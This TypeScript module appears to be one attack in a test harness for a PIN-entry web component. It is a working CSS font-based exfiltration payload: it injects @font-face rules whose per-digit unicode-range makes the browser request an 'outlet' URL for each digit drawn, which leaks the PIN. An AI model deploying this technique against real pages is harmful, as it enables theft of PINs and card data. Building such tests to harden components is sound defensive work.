import type { Attack } from '../attack.js';

export const fonts: Attack = {
  title: 'fonts',
  does: 'Has fonts for single digits (`unicode-range`), which a browser loads when it draws them: inherited, by `::part`, by the element’s own properties, and under the names of the fonts that digits may be drawn with.',
  install: ({ outlet }) => {
    const names = [
      'spy',
      'monospace',
      'ui-monospace',
      'SF Mono',
      'Menlo',
      'Consolas',
      'Liberation Mono',
      'Courier New',
      'DejaVu Sans Mono',
      'system-ui',
      'sans-serif',
    ];
    const faces = names.flatMap((name) =>
      [...'0123456789'].map(
        (digit) => `@font-face {
          font-family: '${name}';
          src: url('${outlet}${name}/${digit}');
          unicode-range: U+3${digit};
        }`,
      ),
    );
    const parts = ['field', 'input', 'form', 'label'].map((part) => `set-card-pin::part(${part})`);
    const sheet = document.createElement('style');
    sheet.textContent = `${faces.join('')}
      :root, set-card-pin, ${parts.join()} {
        font-family: spy !important;
        --set-card-pin-font: spy;
      }`;
    document.documentElement.append(sheet);
  },
};
